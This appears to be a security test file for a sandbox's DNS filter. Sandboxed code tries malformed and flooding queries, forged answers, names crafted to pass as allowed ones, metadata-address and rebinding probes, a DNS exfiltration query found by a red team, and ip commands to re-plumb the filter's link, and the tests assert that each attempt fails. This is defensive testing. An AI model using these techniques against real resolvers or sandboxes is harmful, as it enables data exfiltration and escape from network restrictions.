"""Attack 36: the DNS filter of a sandbox with an outbound_domain_allowlist.

Code in the sandbox sends the filter (127.0.0.53:53, on the host side; under gVisor 10.0.3.2:53, on a link
of the filter's own) malformed, oversized and flooding queries, forged answers, names crafted to pass a wildcard or an exact entry they are not, queries over TCP
and to other resolvers, and connects to disallowed addresses directly; an allowed name's answers
try to overflow the filter's address table. The filter must keep answering allowed names, never
ask the upstream (a DNS server the test runs on the host's loopback) about anything else, stay
within its bounds, run with the fixed host environment and die with the supervisor. Under gVisor, the
filter's link carries nothing but DNS to the filter, whose namespace has no route beyond it.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import random
import signal
import socket
import struct
import subprocess
import time

import psutil
import pytest

from pysandbox.runtime import netplan
from pysandbox.settings import HOST_ENV

from ..dnsserver import DNSServer
from ..listeners import Listener, connect_all_from, connect_from, host_address, refused

pytestmark = [pytest.mark.rootless, pytest.mark.gvisor]

# Sends each hex payload to ADDRESS:PORT over UDP; the answer's rcode and answer count, or "none".
EXCHANGE = r"""
import json, socket, sys
address, port, payloads = sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3])
results = []
for payload in payloads:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(float(sys.argv[4]))
    try:
        s.sendto(bytes.fromhex(payload), (address, port))
        answer = s.recv(65536)
        results.append([answer[3] & 15, int.from_bytes(answer[6:8], "big")])
    except OSError as exc:
        results.append("none" if isinstance(exc, socket.timeout) else type(exc).__name__)
    s.close()
print(json.dumps(results))
"""

# Sends each hex payload from a socket of its own, all at once, to ADDRESS:53; which of them were answered
# within WAIT s of the last send (queries that must go unanswered wait out one timeout, not one each).
UNANSWERED = r"""
import json, selectors, socket, sys, time
address, payloads, wait = sys.argv[1], json.loads(sys.argv[2]), float(sys.argv[3])
sel = selectors.DefaultSelector()
for i, payload in enumerate(payloads):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(bytes.fromhex(payload), (address, 53))
    sel.register(s, selectors.EVENT_READ, i)
answered, deadline = [], time.monotonic() + wait
while sel.get_map() and time.monotonic() < deadline:
    for key, _ in sel.select(max(0, deadline - time.monotonic())):
        answered.append(key.data)
        sel.unregister(key.fileobj)
print(json.dumps(sorted(answered)))
"""

FLOOD = r"""
import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
query = bytes.fromhex(sys.argv[1])
end = time.monotonic() + 1
sent = 0
while time.monotonic() < end:
    try:
        s.sendto(os.urandom(2) + query[2:], (sys.argv[2], 53))
        sent += 1
    except BlockingIOError:
        pass
print(sent)
"""


def query(labels, qtype=1, qclass=1, flags=0x0100, counts=(1, 0, 0, 0), extra=b""):
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return (struct.pack("!HHHHHH", random.getrandbits(16), flags, *counts) + name +
            struct.pack("!HH", qtype, qclass) + extra)


def filter_address(runner):
    """Where the sandbox reaches its DNS filter: under gVisor, on the filter's link (docs/RUNNERS.md)."""
    return netplan.FILTER_LINK_DNS if runner == "gvisor" else netplan.FILTER_DNS


def exchange(sb, payloads, address, port=53, wait=0.5):
    p = sb.exec("python3", "-c", EXCHANGE, address, str(port), json.dumps([x.hex() for x in payloads]), str(wait))
    assert p.wait() == 0, p.stderr.read()
    return json.loads(p.stdout.read())


def answered(sb, payloads, address, wait):
    """The indices of `payloads` answered (UNANSWERED)."""
    p = sb.exec("python3", "-c", UNANSWERED, address, json.dumps([x.hex() for x in payloads]), str(wait))
    assert p.wait() == 0, p.stderr.read()
    return json.loads(p.stdout.read())


@pytest.fixture
def dns(monkeypatch):
    server = DNSServer()
    server.records["ok.test"] = [(host_address(), 60)]
    server.records["a.wild.test"] = [(host_address(), 60)]
    monkeypatch.setenv("PYSANDBOX_DNS_UPSTREAM", server.address)
    yield server
    server.close()


OK = query([b"ok", b"test"])


def test_malformed_queries_are_dropped_and_the_filter_keeps_answering(sandboxes, dns, runner):
    sb = sandboxes(outbound_domain_allowlist=["ok.test"])
    malformed = [
        b"", b"\0" * 11, struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0),  # no question
        OK[:12] + b"\xc0\x0c" + OK[-4:],  # a compression pointer to itself
        OK[:12] + b"\x40" + b"a" * 64 + b"\0" + OK[-4:],  # a 64-byte label
        query([b"a" * 63] * 5),  # a 320-byte name
        query([b"ok", b"test"], counts=(2, 0, 0, 0)), query([b"ok", b"test"], counts=(0, 0, 0, 0)),
        query([b"ok", b"test"], counts=(1, 1, 0, 0)), query([b"ok", b"test"], counts=(1, 0, 0, 5)),
        query([b"ok", b"test"], flags=0x8180),  # a response
        query([b"ok", b"test"], flags=0x1100),  # opcode 2 (status)
        OK[:-3],  # truncated type and class
        query([b"ok", b"test"], extra=b"\0" * 4000),  # over 512 bytes
        *[os.urandom(random.randrange(1, 600)) for _ in range(20)],
    ]
    at = filter_address(runner)
    assert answered(sb, malformed, at, wait=0.5) == []
    assert dns.asked == []
    assert answered(sb, [OK], at, wait=5) == [0]  # what sent them sees an answer
    assert exchange(sb, [OK], at) == [[0, 1]]
    assert dns.asked == ["ok.test"] * 2


def test_names_crafted_to_pass_for_allowed_ones_are_nxdomain(sandboxes, dns, runner):
    sb = sandboxes(outbound_domain_allowlist=["ok.test", "*.wild.test"])
    crafted = [
        [b"ok.test"],  # one label holding a dot
        [b"a.wild", b"test"], [b"x", b"a.wild.test"],
        [b"ok", b"test\0"], [b"ok\0", b"test"], [b"ok", b"test", b"evil"], [b"evilok", b"test"],
        [b"wild", b"test"],  # the wildcard's own suffix
        [b"evilwild", b"test"], [b"wild", b"test", b"evil"], [b"*", b"wild", b"test"], [b"ok ", b"test"],
    ]
    at = filter_address(runner)
    assert exchange(sb, [query(labels) for labels in crafted], at) == [[3, 0]] * len(crafted)
    assert exchange(sb, [query([b"ok", b"test"], qclass=3)], at) == [[3, 0]]  # CHAOS, not IN
    assert dns.asked == []
    assert exchange(sb, [query([b"OK", b"Test"]), query([b"a", b"WILD", b"test"])], at) == [[0, 1], [0, 1]]


def test_other_resolvers_tcp_and_direct_addresses_are_unreachable(sandboxes, dns, runner):
    other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # a resolver on the host's address
    other.bind((host_address(), 0))
    other.settimeout(0.2)
    listener = Listener(socket.AF_INET, (host_address(), 0))
    try:
        sb = sandboxes(outbound_domain_allowlist=["other.test"])
        results = exchange(sb, [OK], "10.0.2.3") + exchange(sb, [OK], host_address(), port=other.getsockname()[1])
        assert all(result != [0, 1] for result in results), results
        with pytest.raises(socket.timeout):
            other.recv(512)
        # DNS over TCP to the filter, slirp's resolver, the host, the metadata address
        destinations = [(filter_address(runner), 53), ("10.0.2.3", 53), (host_address(), listener.port),
                        ("169.254.169.254", 80)]
        assert connect_all_from(sb, destinations) == [refused(runner)] * 4
        assert listener.wait_for(0, timeout=0.2) == 0 and dns.asked == []
    finally:
        other.close()
        listener.close()


def test_a_flood_is_rate_limited(sandboxes, dns, runner, monkeypatch):
    monkeypatch.setenv("PYSANDBOX_DNS_QPS", "50")
    sb = sandboxes(outbound_domain_allowlist=["ok.test"])
    start = time.monotonic()
    p = sb.exec("python3", "-c", FLOOD, OK.hex(), filter_address(runner))
    assert p.wait() == 0
    sent = int(p.stdout.read())
    elapsed = time.monotonic() - start
    assert sent > 1000
    assert len(dns.asked) <= 50 * (elapsed + 1)  # the burst, then 50 a second
    time.sleep(1.1)  # the bucket refills
    assert exchange(sb, [OK], filter_address(runner)) == [[0, 1]]


def test_answers_cannot_overflow_the_address_table(sandboxes, dns, runner, monkeypatch):
    monkeypatch.setenv("PYSANDBOX_DNS_ADDRESSES_MAX", "40")
    dns.records["many.test"] = [(f"10.99.0.{i}", 60) for i in range(100)]
    dns.records["more.test"] = [(f"10.99.1.{i}", 60) for i in range(100)]
    sb = sandboxes(outbound_domain_allowlist=["many.test", "more.test", "ok.test"])
    many, more = query([b"many", b"test"]), query([b"more", b"test"])
    at = filter_address(runner)
    assert exchange(sb, [many], at) == [[0, 100]]  # 32 of them allowed
    assert exchange(sb, [more], at) == [[2, 0]]  # SERVFAIL: 8 places left for 32 addresses
    assert exchange(sb, [OK], at) == [[0, 1]]
    log = (sb._dir / "supervisor.log").read_text()
    assert log.count("maximum of 40 addresses") == 1


def _filter(sb):
    supervisor = psutil.Process(sb._record.supervisor.pid)
    found = [p for p in supervisor.children() if p.exe() == supervisor.exe()]
    assert len(found) == 1
    return found[0]


def test_the_filter_has_the_host_environment_and_dies_with_the_supervisor(sandboxes, dns, runner, monkeypatch):
    monkeypatch.setenv("LD_PRELOAD", "/nonexistent.so")  # never reaches a host process
    sb = sandboxes("sleep", "100", outbound_domain_allowlist=["ok.test"])
    assert exchange(sb, [OK], filter_address(runner)) == [[0, 1]]
    dnsfilter = _filter(sb)
    environ = open(f"/proc/{dnsfilter.pid}/environ", "rb").read().split(b"\0")
    assert sorted(e.decode() for e in environ if e) == sorted(f"{k}={v}" for k, v in HOST_ENV.items())
    os.kill(sb._record.supervisor.pid, signal.SIGKILL)
    dnsfilter.wait(timeout=10)  # its parent-death signal
    sb.wait(raise_on_termination=False)


def test_every_default_network_sandbox_has_one_filter(sb):
    # It waits, unused, for a policy change; the sandbox's names go to slirp4netns meanwhile.
    assert "10.0.2.3" in sb.exec("cat", "/etc/resolv.conf").stdout.read()  # once this answers, the network is up
    assert _filter(sb).status() != psutil.STATUS_ZOMBIE


def test_an_allowed_name_resolving_into_slirps_network_opens_nothing(sandboxes, dns, runner):
    # Found by the red team: an allowed name answered with 10.0.2.3 put slirp's resolver in the allowed
    # set, and through it every name resolved (an exfiltration channel), and slirp relays any port of
    # 10.0.2.3 to the host resolver's address. Rebinding to the gateway or the metadata address too.
    dns.records.update({"dns.test": [("10.0.2.3", 60)], "gw.test": [("10.0.2.2", 60)],
                        "meta.test": [("169.254.169.254", 60)]})
    sb = sandboxes(outbound_domain_allowlist=["dns.test", "gw.test", "meta.test"])
    names = [query([b"dns", b"test"]), query([b"gw", b"test"]), query([b"meta", b"test"])]
    assert exchange(sb, names, filter_address(runner)) == [[0, 1]] * 3
    exfiltrated = exchange(sb, [query([b"exfil-secret", b"example", b"com"])], "10.0.2.3")
    assert exfiltrated == ["none" if runner == "gvisor" else "PermissionError"]  # the link filter drops
    destinations = [("10.0.2.3", 53), ("10.0.2.3", 80), ("10.0.2.2", 80), ("169.254.169.254", 80)]
    assert connect_all_from(sb, destinations) == [refused(runner)] * 4
    assert "exfil-secret.example.com" not in dns.asked


def test_slirps_resolver_answers_only_on_port_53_without_a_domain_policy(sandboxes, runner):
    sb = sandboxes()
    assert connect_all_from(sb, [("10.0.2.3", 80), ("10.0.2.3", 8080)]) == [refused(runner)] * 2


def answer(labels, address):
    """A forged answer: `labels` is at `address`."""
    return query(labels, flags=0x8180, counts=(1, 1, 0, 0), extra=struct.pack("!HHHIH4s", 0xC00C, 1, 1, 600, 4,
                                                                              socket.inet_aton(address)))


def test_forged_answers_to_the_filter_allow_nothing(sandboxes, dns, runner):
    # Sandbox code answers its own questions: the filter takes answers only on its upstream socket, from the
    # upstream's address (in the host's namespace, where the sandbox reaches none of the host's addresses).
    listener = Listener(socket.AF_INET, (host_address(), 0))
    try:
        sb = sandboxes(outbound_domain_allowlist=["other.test"])
        forged = [answer(labels, host_address()) for labels in ([b"ok", b"test"], [b"other", b"test"])] * 100
        assert exchange(sb, forged, filter_address(runner), wait=0.01) == ["none"] * len(forged)
        assert connect_from(sb, host_address(), listener.port) == refused(runner)
        assert listener.wait_for(0, timeout=0.2) == 0 and dns.asked == []
    finally:
        listener.close()


# Sandbox code tries every other way onto the filter's link: other UDP ports, TCP (to port 53 too), IPv6 to
# the link's nodes, ICMP, and a fragmented datagram to port 53 (whose rest is not a UDP packet).
PROBE = r"""
import socket, sys
address = sys.argv[1]
for port in [p for p in range(1, 300) if p != 53]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x" * 64, (address, port))
for port in (22, 53, 80):
    try:
        socket.create_connection((address, port), timeout=0.5).close()
        print("connected", port)
    except OSError:
        pass
for target in ("ff02::1%dns0", "fe80::1%dns0"):
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            s.sendto(b"x", (target, 53))
    except OSError:
        pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(bytes.fromhex("0800f7ff00000000"), (address, 0))
except OSError:
    pass
if sys.argv[2] == "fragment":
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"y" * 4000, (address, 53))
"""


def _counters(read, table, names):
    """`names`' values in /proc/net/`table` of the filter's namespace (`read`: _filter_namespace's; snmp:
    "Prefix: names" then "Prefix: values"; snmp6: pairs)."""
    lines = [line.split() for line in read(table).splitlines()]
    if table == "snmp6":
        values = {line[0]: int(line[1]) for line in lines}
    else:
        values = {f"{head[0]}{key}": int(value) for head, row in zip(lines[::2], lines[1::2])
                  for key, value in zip(head[1:], row[1:])}
    return {name: values[name] for name in names}


SIOCGSKNS, NS_GET_USERNS, SYS_PIDFD_GETFD = 0x894C, 0xB701, 438  # x86_64's and aarch64's pidfd_getfd


@contextlib.contextmanager
def _filter_namespace(filter_pid):
    """A reader of /proc/net files of the DNS filter's own namespace, behind its link. The filter stays in the
    host's namespaces (its forks count as the caller's): its resolver socket, taken with pidfd_getfd, names
    the namespace (SIOCGSKNS), read by an nsenter in it and in its user namespace (owned by the caller)."""
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd, held = os.pidfd_open(filter_pid), []
    try:
        for target in map(int, os.listdir(f"/proc/{filter_pid}/fd")):
            fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
            if fd < 0:
                continue
            held.append(fd)
            with contextlib.suppress(OSError), socket.socket(fileno=os.dup(fd)) as s:
                if s.type == socket.SOCK_DGRAM and s.getsockname() == (netplan.FILTER_LINK_DNS, 53):
                    held.append(netns := fcntl.ioctl(fd, SIOCGSKNS))
                    held.append(userns := fcntl.ioctl(netns, NS_GET_USERNS))
                    break
        else:
            pytest.fail("the filter holds no resolver socket on its link")

        def read(name):
            return subprocess.run(["nsenter", f"--user=/proc/self/fd/{userns}", f"--net=/proc/self/fd/{netns}",
                                   "cat", f"/proc/net/{name}"], pass_fds=(userns, netns), capture_output=True,
                                  text=True, check=True).stdout
        yield read
    finally:
        for fd in (pidfd, *held):
            os.close(fd)


@pytest.mark.gvisor(only=True)
def test_the_filters_link_carries_only_dns_into_a_namespace_with_no_route_beyond(sandboxes, dns):
    sb = sandboxes(outbound_domain_allowlist=["ok.test"])
    at = netplan.FILTER_LINK_DNS
    assert exchange(sb, [OK], at) == [[0, 1]]
    with _filter_namespace(_filter(sb).pid) as read:
        assert sorted(line.split(":")[0].strip() for line in read("dev").splitlines()[2:]) == \
            [netplan.FILTER_LINK, "lo"]
        routes = [line.split()[:3] for line in read("route").splitlines()[1:]]
        assert routes == [[netplan.FILTER_LINK, "0003000A", "00000000"]]  # 10.0.3.0/30 on the link, no gateway
        assert netplan.FILTER_LINK not in read("if_inet6")  # IPv4 only: neither kernel sends on it unasked
        counted = ("Ip:InReceives", "Udp:InDatagrams", "Ip:ReasmOKs")
        before = _counters(read, "snmp", counted)
        p = sb.exec("python3", "-c", PROBE, at, "")
        assert p.wait() == 0 and p.stdout.read() == "", p.stderr.read()
        assert _counters(read, "snmp", counted) == before  # not one packet reached the filter's namespace
        p = sb.exec("python3", "-c", PROBE, at, "fragment")
        assert p.wait() == 0 and p.stdout.read() == "", p.stderr.read()
        after = _counters(read, "snmp", counted)
        assert after["Udp:InDatagrams"] == before["Udp:InDatagrams"]
        assert after["Ip:ReasmOKs"] == before["Ip:ReasmOKs"]
        assert _counters(read, "snmp6", ["Ip6InReceives"]) == {"Ip6InReceives": 0}
    assert exchange(sb, [OK], at) == [[0, 1]] and dns.asked == ["ok.test", "ok.test"]


# Red team (red5): sandbox code re-plumbs the filter's link from inside gVisor: another address on dns0 (the
# slirp network's, the filter's own), a route to slirp's gateway or a default route through dns0, another MAC
# address, a forged neighbour for the filter, the link down; then sends to slirp's gateway through dns0.
REPLUMB = ("for c in 'addr add 10.0.2.50/24 dev dns0' 'addr add 10.0.3.2/32 dev dns0' 'route add 10.0.2.2/32 dev dns0' "
           "'route replace default dev dns0' 'link set dns0 address 02:00:00:00:00:99' "
           "'neigh replace 10.0.3.2 lladdr ff:ff:ff:ff:ff:ff dev dns0' 'link set dns0 down'; do "
           "ip $c 2>/dev/null && echo changed: $c; done; ip -4 -o addr show dev dns0; ip -4 route show dev dns0")


@pytest.mark.gvisor(only=True)
def test_sandbox_code_cannot_replumb_the_filters_link(sandboxes, dns):
    sb = sandboxes(outbound_domain_allowlist=["ok.test"])
    p = sb.exec("sh", "-c", "command -v ip >/dev/null || exit 3; " + REPLUMB)
    code, out = p.wait(), p.stdout.read()
    if code == 3:
        pytest.skip("no ip(8) in the host image")
    assert "changed" not in out, out
    assert "10.0.3.1/30" in out and "10.0.2." not in out, out  # the link as the filter made it
    sent = py_udp_through(sb, "10.0.2.2")
    assert sent in ("EHOSTUNREACH", "ENETUNREACH"), sent
    assert exchange(sb, [OK], netplan.FILTER_LINK_DNS) == [[0, 1]]


def py_udp_through(sb, address):
    """Sends one datagram to `address`:53 bound to dns0; the errno name, or "sent"."""
    code = ("import errno, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'dns0')\n"
            f"try:\n    s.sendto(b'x', ({address!r}, 53)); print('sent')\n"
            "except OSError as e:\n    print(errno.errorcode[e.errno])")
    p = sb.exec("python3", "-c", code)
    assert p.wait() == 0, p.stderr.read()
    return p.stdout.read().strip()
